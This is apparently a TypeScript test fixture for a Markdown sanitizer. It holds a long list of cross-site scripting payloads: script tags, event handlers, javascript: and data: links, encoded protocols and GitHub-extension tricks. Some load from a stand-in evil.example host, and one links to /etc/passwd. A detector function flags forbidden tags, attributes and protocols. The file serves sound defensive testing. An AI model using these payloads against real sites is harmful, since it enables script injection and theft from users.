/**
 * Markdown that tries to run a script, load a frame or hide a protocol (S35). Each payload calls `ran()` if it
 * succeeds. Add payloads found in the wild; never remove one.
 */
export const markdownPayloads: readonly string[] = [
  // Raw HTML.
  '<script>ran()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<img src=x onerror=ran()>',
  '<img src="x" onerror="ran()" />',
  '<IMG """><SCRIPT>ran()</SCRIPT>">',
  '<img src=x:x onerror=ran() x=',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ran()"><text x=20 y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<embed src="javascript:ran()">',
  '<body onload=ran()>',
  '<details open ontoggle=ran()><summary>x</summary></details>',
  '<video><source onerror="ran()"></video>',
  '<audio src=x onerror=ran()>',
  '<input autofocus onfocus=ran()>',
  '<textarea autofocus onfocus=ran()></textarea>',
  '<select autofocus onfocus=ran()></select>',
  '<marquee onstart=ran()>x</marquee>',
  '<form action="javascript:ran()"><input type=submit></form>',
  '<button formaction="javascript:ran()">x</button>',
  '<isindex type=image src=1 onerror=ran()>',
  '<base href="javascript:ran()//">',
  '<meta http-equiv="refresh" content="0;url=javascript:ran()">',
  '<link rel="stylesheet" href="javascript:ran()">',
  '<style>@import "javascript:ran()"; * { background: url("javascript:ran()") }</style>',
  '<div style="background:url(javascript:ran())">x</div>',
  '<a href="javascript:ran()">x</a>',
  '<a href="x" onclick="ran()">x</a>',
  '<template><script>ran()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<!--><img src=x onerror=ran()>-->',
  '<!-- --!><img src=x onerror=ran()>',
  '<![CDATA[<img src=x onerror=ran()>]]>',
  '<?xml version="1.0"?><x onload="ran()"/>',
  '<p><img src=x onerror=ran()></p>\n\n**bold** <b onmouseover=ran()>x</b>',
  // Links and pictures.
  '[x](javascript:ran())',
  '[x](JaVaScRiPt:ran())',
  '[x](  javascript:ran())',
  '[x](java&#115;cript:ran())',
  '[x](javascript&colon;ran())',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;ran())',
  '[x](java\\script:ran())',
  '[x](javascript://%0aran())',
  '[x](<javascript:ran()>)',
  '[x](<java\tscript:ran()>)',
  '[x](vbscript:ran())',
  '[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)',
  '[x](data:text/html,<script>ran()</script>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/x)',
  '[x](ftp://evil.example/x)',
  '[x](x "title\\" onmouseover=\\"ran()")',
  '![x](javascript:ran())',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigpIi8+)',
  '![x](x"onerror="ran())',
  '![" onerror="ran()](x)',
  '![x](http://evil.example/pixel.png)',
  '[x][r]\n\n[r]: javascript:ran()',
  '[r]\n\n[r]: <javascript:ran()> "x"',
  '<javascript:ran()>',
  '<data:text/html,<script>ran()</script>>',
  // GitHub's extensions.
  '| a |\n|---|\n| <img src=x onerror=ran()> |\n| [x](javascript:ran()) |',
  '- [x] <img src=x onerror=ran()>\n- [ ] [x](javascript:ran())',
  'x[^1]\n\n[^1]: [x](javascript:ran()) <svg onload=ran()>',
  '~~<img src=x onerror=ran()>~~ javascript:ran() www.javascript:ran()',
  '```html\n<script>ran()</script>\n```',
  '```"><script>ran()</script>\nx\n```',
  '`<img src=x onerror=ran()>`',
  '# <a id="x" name="body" onclick=ran()>x</a>\n\n<form id=document><input name=cookie></form>',
]

/**
 * Lists everything in a text that could run a script or use a forbidden protocol. Runs in the page, so it must not use
 * anything outside itself.
 */
export function findDangers(text: Element): string[] {
  const forbidden =
    'script,iframe,object,embed,svg,math,style,link,meta,base,form,button,textarea,select,video,audio'
  const dangers = (window as { hasRun?: boolean }).hasRun ? ['a script has run'] : []
  for (const element of text.querySelectorAll('*')) {
    if (element.matches(forbidden)) dangers.push(element.outerHTML)
    for (const { name, value } of element.attributes) {
      if (/^on|^srcdoc$|^formaction$|^style$/i.test(name)) dangers.push(`${name}=${value}`)
    }
    if (element instanceof HTMLAnchorElement && !/^(https?|mailto):$/.test(element.protocol)) {
      // A link without a valid address (`http://www.javascript:ran()`) goes nowhere.
      if (element.hasAttribute('href') && URL.canParse(element.href)) dangers.push(element.href)
    }
    if (element instanceof HTMLImageElement && element.hasAttribute('src')) {
      const { origin, protocol } = new URL(element.src)
      if (protocol !== 'https:' && origin !== location.origin) dangers.push(element.src)
    }
  }
  return dangers
}
